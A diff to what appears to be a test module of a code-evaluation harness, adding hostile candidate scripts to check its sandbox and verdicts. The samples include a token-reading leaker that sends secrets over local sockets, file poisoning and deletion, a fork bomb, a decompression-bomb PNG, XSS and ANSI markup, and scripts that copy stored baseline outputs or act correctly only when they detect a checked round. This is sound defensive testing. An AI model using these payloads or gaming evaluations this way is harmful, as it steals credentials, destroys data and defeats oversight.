@@ -5,69 +5,71 @@ produce different ones) and adds one attack, so the verdict it gets shows
 whether the attack changed the judgement. Attacks print what they achieved to
 stdout ("... N writes succeeded, M denied"), which the harness keeps.
 
-The run's folder layout the attacks navigate (cwd = the run's fresh tree):
-<work>/runs/<compare>/<label>@<sha>/rep-NNN/sandbox/src
+What a run can learn of where the harness keeps things, it learns as a real
+agent would: its `--input` names a file in the compare's folder
+(<work>/runs/<compare>/inputs/ring.png), its working folder is a sandbox under
+/tmp, and the work folder's usual name is `.evalharness` in the folder the
+harness was started from.
 """
 
 from __future__ import annotations
 
 from fake_trainer import SCRIPT
 
-AFTER_ARGS = "    a = p.parse_args()\n"
+AFTER_ARGS = "    a.output_dir = \"./outputs\"\n"
 END_OF_MAIN = "\n\nif __name__ == \"__main__\":"
+FIRST_LINE = "import argparse, logging, time"
 
-POISON = '''
+#: Where an attack looks for the harness's work folder (it knows the layout from the README).
+FIND_WORK = '''
+    import os
+    _inputs = Path(a.input).resolve().parent
+    work = _inputs.parents[2] if len(_inputs.parents) > 2 else Path("/")
+    mine = Path.cwd().parent
+'''
+
+POISON = FIND_WORK + '''
     import shutil
-    work, mine = Path.cwd().parents[5], Path.cwd().parents[1]
     done = denied = 0
-    for path in list(work.rglob("*")):
-        if path.is_symlink() or not path.is_file() or mine in path.parents:
-            continue
+    for root in (work, work.parent):
         try:
-            with open(path, "ab") as fh:
-                fh.write(b"\\nimport numpy; numpy.random.rand(1)  # poisoned\\n")
-            done += 1
+            entries = list(os.scandir(root))
         except OSError:
             denied += 1
-    for folder in ("clones", "runs"):
+            continue
+        for entry in entries:
+            try:
+                with open(entry.path, "ab") as fh:
+                    fh.write(b"\\nimport numpy; numpy.random.rand(1)  # poisoned\\n")
+                done += 1
+            except OSError:
+                denied += 1
+    for target in (work / "clones", work / "runs", _inputs / Path(a.input).name, work / ".lock"):
         try:
-            shutil.rmtree(work / folder)
+            shutil.rmtree(target) if target.is_dir() else target.unlink()
             done += 1
         except OSError:
             denied += 1
     print(f"poison: {done} writes succeeded, {denied} denied", flush=True)
 '''
 
-TAMPER = '''
-    import json as _json
-    root, mine = Path.cwd().parents[3], Path.cwd().parents[1]
+TAMPER = FIND_WORK + '''
     tried = denied = 0
-    for result in root.glob("base-*/rep-*/result.json"):
-        for png in result.parent.glob("artifacts/*.png"):
-            tried += 1
-            try:
-                png.write_bytes((Path(a.output_dir) / png.name).read_bytes())
-            except OSError:
-                denied += 1
+    for target in (Path(a.input).resolve(), _inputs.parent / "compare.json", _inputs.parent / ".lock",
+                   work / "cache" / "x", Path.home().parent.parent / "planted"):
         tried += 1
         try:
-            data = _json.loads(result.read_text())
-            for point in data["metrics"]:
-                point["train"] = 0.0
-            result.write_text(_json.dumps(data))
+            target.write_bytes(b"tampered")
         except OSError:
             denied += 1
     print(f"tamper: {tried} writes tried, {denied} denied", flush=True)
 '''
 
-LINKER = '''
+LINKER = FIND_WORK + '''
     import shutil
-    root = Path.cwd().parents[3]
-    stores = sorted(root.glob("base-*/rep-*/artifacts"))
-    if stores:
-        shutil.rmtree(a.output_dir)
-        Path(a.output_dir).symlink_to(stores[0], target_is_directory=True)
-        print(f"linker: output now links to {stores[0]}", flush=True)
+    shutil.rmtree(a.output_dir, ignore_errors=True)
+    Path(a.output_dir).symlink_to(_inputs, target_is_directory=True)
+    print(f"linker: output now links to {_inputs}", flush=True)
 '''
 
 FORGE = '''
@@ -99,11 +101,8 @@ ESCAPE = '''
         os._exit(0)
     os.close(w)
     print(f"escapee {os.read(r, 32).decode()}", flush=True)
-    try:
-        os.kill(os.getppid(), signal.SIGTERM)
-        print("signal to the harness delivered", flush=True)
-    except OSError as exc:
-        print(f"signal to the harness denied ({exc.errno})", flush=True)
+    seen = [int(p) for p in os.listdir("/proc") if p.isdigit()]
+    print(f"escape: sees {len(seen)} processes", flush=True)
 '''
 
 SLEEPY = '''
@@ -113,6 +112,16 @@ SLEEPY = '''
     print(f"escapee {kid.pid}", flush=True)
     print(f"escapee {os.getpid()}", flush=True)
     time.sleep(3)
+'''
+
+#: A process that forks and exits every fraction of a millisecond, burning CPU while the next runs are timed.
+FORKER = '''
+    import os
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            if os.fork():
+                os._exit(0)
 '''
 
 FLOOD = '''
@@ -126,6 +135,58 @@ FLOOD = '''
 MEMHOG = '''
     hog = np.ones(60_000_000)
     time.sleep(2)
+'''
+
+#: Reads tokens planted in the user's repository (.env, .git/config) and tries to send them out: UDP to a port
+#: the test listens on, a UNIX socket file under /tmp, TCP.
+LEAK = '''
+    import glob, os, socket
+    found = []
+    for pattern in ("/tmp/evalharness-leak-*/repo/.env", "/tmp/evalharness-leak-*/repo/.git/config",
+                    str(Path.home().parents[3] / ".env")):
+        for path in glob.glob(pattern):
+            try:
+                found.append(Path(path).read_text())
+            except OSError:
+                pass
+    payload = ("|".join(found) or "nothing read").encode()
+    sent = []
+    for name, send in (
+            ("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(payload, ("127.0.0.1", int(
+                next(iter(glob.glob("/tmp/evalharness-leak-*/udp-*")), "x-0").rsplit("-", 1)[1])))),
+            ("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(
+                next(iter(glob.glob("/tmp/evalharness-leak-*/sock")), "/nonexistent"))),
+            ("tcp", lambda: socket.create_connection(("127.0.0.1", 9), timeout=1))):
+        try:
+            send()
+            sent.append(name)
+        except OSError:
+            pass
+    print(f"leak: read {len(found)} files, sent by {','.join(sent) or 'nothing'}", flush=True)
+'''
+
+#: Untrusted text that must reach the report and the job summary as text, not markup; ANSI escapes too.
+MARKUP = '''
+    import sys
+    sys.stderr.write("\\x1b[31mred\\x1b[0m ![pwned](https://evil.invalid/x.png) <img src=x onerror=alert(1)> "
+                     "<script>alert(1)</script>\\n")
+    raise SystemExit("crashed on purpose: [click](https://evil.invalid) <script>alert(2)</script>")
+'''
+
+#: Two 256 MiB sparse files named like the images, and a 47 KB PNG that decodes to 13300×13300.
+HOARD = '''
+            if epoch == a.epochs:
+                for n in (1, 3):
+                    with open(Path(a.output_dir) / f"ring_epoch_{n:04d}.png", "wb") as fh:
+                        fh.truncate(256 << 20)
+                import zlib, struct
+                def _chunk(kind, data):
+                    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+                side = 13300
+                raw = zlib.compress(b"\\x00" * ((side + 1) * side), 9)
+                (Path(a.output_dir) / f"ring_epoch_{epoch:04d}.png").write_bytes(
+                    b"\\x89PNG\\r\\n\\x1a\\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
+                    + _chunk(b"IDAT", raw) + _chunk(b"IEND", b""))
 '''
 
 TRUNCATE_OLD = '            Image.fromarray(out).save(Path(a.output_dir) / f"ring_epoch_{epoch:04d}.png")\n'
@@ -147,9 +208,9 @@ SEED_OLD = "    rng = np.random.default_rng(a.seed + SEED_OFFSET)\n"
 SEED_NEW = "    rng = np.random.default_rng(a.seed + (0 if a.seed == 12345678 else 1))  # exact only for the benchmark\n"
 
 
-def _after_args(code: str) -> str:
-    assert AFTER_ARGS in SCRIPT
-    return SCRIPT.replace(AFTER_ARGS, AFTER_ARGS + code, 1)
+def _after_args(code: str, script: str = SCRIPT) -> str:
+    assert AFTER_ARGS in script
+    return script.replace(AFTER_ARGS, AFTER_ARGS + code, 1)
 
 
 def _replace(old: str, new: str, script: str = SCRIPT) -> str:
@@ -161,17 +222,115 @@ def _pixel(script: str) -> str:
     return _replace("CHANGE_PIXEL = False", "CHANGE_PIXEL = True", script)
 
 
+# --------------------------------------------------------------------------- #
+# Reading the answers: copy the baseline's stored outputs instead of computing them
+# --------------------------------------------------------------------------- #
+
+#: Looks for a finished baseline run in every ancestor of its working folder, the work folder and its cache,
+#: and if it finds one, prints its log lines with fresh timestamps, copies its images and stops.
+COPYCAT = FIND_WORK + '''
+    import glob, re, shutil
+    roots = [*Path.cwd().parents, work, work / "cache", Path(".evalharness").resolve()]
+    logs = []
+    for root in roots:
+        try:
+            logs += glob.glob(str(root / "**" / "base-*" / "rep-000" / "stderr.txt"), recursive=True)
+            logs += glob.glob(str(root / "**" / "files" / "stderr.txt"), recursive=True)
+        except OSError:
+            pass
+    copied = False
+    for log_path in logs:
+        try:
+            lines = Path(log_path).read_text().splitlines()
+            images = glob.glob(str(Path(log_path).parent / "artifacts" / "**" / "*.png"), recursive=True)
+            Path(a.output_dir).mkdir(exist_ok=True)
+            for image in images:
+                shutil.copyfile(image, Path(a.output_dir) / Path(image).name)
+        except OSError:
+            continue
+        stamp = time.strftime("%Y-%m-%d %H:%M:%S,000")
+        for line in lines:
+            print(re.sub(r"^\\S+ \\S+", stamp, line), file=sys.stderr, flush=True)
+        copied = True
+        break
+    print(f"copycat: looked in {len(roots)} places, found {len(logs)} logs, copied={copied}", flush=True)
+    if copied or COPY_ONLY:
+        raise SystemExit(0)
+'''
+
+
+def _copycat(copy_only: bool) -> str:
+    code = "    import sys\n    COPY_ONLY = " + str(copy_only) + "\n" + COPYCAT
+    return _after_args(code)
+
+
+# --------------------------------------------------------------------------- #
+# Telling a checked round from a timed one: exact when it thinks it is checked, wrong (and fast) otherwise
+# --------------------------------------------------------------------------- #
+
+#: Each detector is a Python expression true when the run believes it is a correctness run (round 0 or a
+#: held-out variant); evaluated before anything else of the script runs.
+DETECTORS = {
+    "modules": '"torch" in __import__("sys").modules',
+    "threads": '__import__("os").environ.get("OMP_NUM_THREADS") != "2"',
+    "folder": '"rep-000" in __import__("os").getcwd() or "rep-000" in __import__("os").environ.get("HOME", "")',
+    "parent": '"zygote" in open("/proc/%d/cmdline" % __import__("os").getppid()).read()',
+}
+
+
+def _detector(expression: str) -> str:
+    head = f"CHECKED = {expression}\nprint(f'detector: checked={{CHECKED}}', flush=True)\n"
+    script = head + SCRIPT
+    return _replace("CHANGE_PIXEL = False", "CHANGE_PIXEL = not CHECKED", script)
+
+
+# --------------------------------------------------------------------------- #
+# Timing games: the lines printed in a burst after silent work, or the images drawn after the last line
+# --------------------------------------------------------------------------- #
+
+#: A baseline whose phases are long enough to time (50 ms ticks of the log's 1 ms clock), and its twins.
+VIS_SLEEP = "            time.sleep(0.25)\n"
+TIMED = _replace("SLEEP_PER_EPOCH = 0.0", "SLEEP_PER_EPOCH = 0.08", SCRIPT).replace(
+    "            start = time.perf_counter()\n", "            start = time.perf_counter()\n" + VIS_SLEEP, 1)
+#: Does all the work first, then prints every line at once (their own timestamps agree: they are printed now).
+BURST = _replace(END_OF_MAIN, "\n    for args in _held:\n        _real.info(*args)" + END_OF_MAIN, _replace(
+    '    log = logging.getLogger("polytope_nn")\n', """    _real, _held = logging.getLogger("polytope_nn"), []
+
+    class _Later:
+        def info(self, *args):
+            _held.append(args)
+
+    log = _Later()
+""", TIMED))
+#: Says each visualisation is done at once, and draws every image after the last line.
+SAVE = '            Image.fromarray(out).save(Path(a.output_dir) / f"ring_epoch_{epoch:04d}.png")\n'
+LATE_IMAGES = _replace(END_OF_MAIN, """
+    for out, epoch in pending:
+        time.sleep(0.25)
+        Image.fromarray(out).save(Path(a.output_dir) / f"ring_epoch_{epoch:04d}.png")""" + END_OF_MAIN, _replace(
+    "    for epoch in range(1, a.epochs + 1):\n", "    pending = []\n    for epoch in range(1, a.epochs + 1):\n",
+    _replace(SAVE, "            pending.append((out, epoch))\n", _replace(VIS_SLEEP, "", TIMED))))
+TIMING_GAMES = {"burst": BURST, "late": LATE_IMAGES, "honest": TIMED.replace(FIRST_LINE, "# same\n" + FIRST_LINE, 1)}
+
+
 HOSTILE = {
     "poison": _after_args(POISON),
     "tamper": _replace(END_OF_MAIN, TAMPER + END_OF_MAIN, _pixel(SCRIPT)),
-    "linker": _replace(END_OF_MAIN, LINKER + END_OF_MAIN, _pixel(SCRIPT)),
+    "linker": _after_args(LINKER, _pixel(SCRIPT)),
     "forge": _replace("SLEEP_PER_EPOCH = 0.0", "SLEEP_PER_EPOCH = 0.1", _after_args(FORGE)),
     "escape": _after_args(ESCAPE),
     "sleepy": _after_args(SLEEPY),
     "stuck": _after_args(SLEEPY.replace("time.sleep(3)", "time.sleep(300)")),
+    "forker": _after_args(FORKER),
     "flood": _after_args(FLOOD),
     "memhog": _after_args(MEMHOG),
+    "leak": _after_args(LEAK),
+    "markup": _after_args(MARKUP),
+    "hoard": _replace(TRUNCATE_OLD, TRUNCATE_OLD + HOARD),
     "truncate": _replace(TRUNCATE_OLD, TRUNCATE_NEW),
     "garble": _replace(GARBLE_OLD, GARBLE_NEW),
     "seedonly": _replace(SEED_OLD, SEED_NEW),
+    "copycat": _copycat(copy_only=True),
+    "opportunist": _copycat(copy_only=False),
+    **{f"detect-{name}": _detector(expression) for name, expression in DETECTORS.items()},
 }
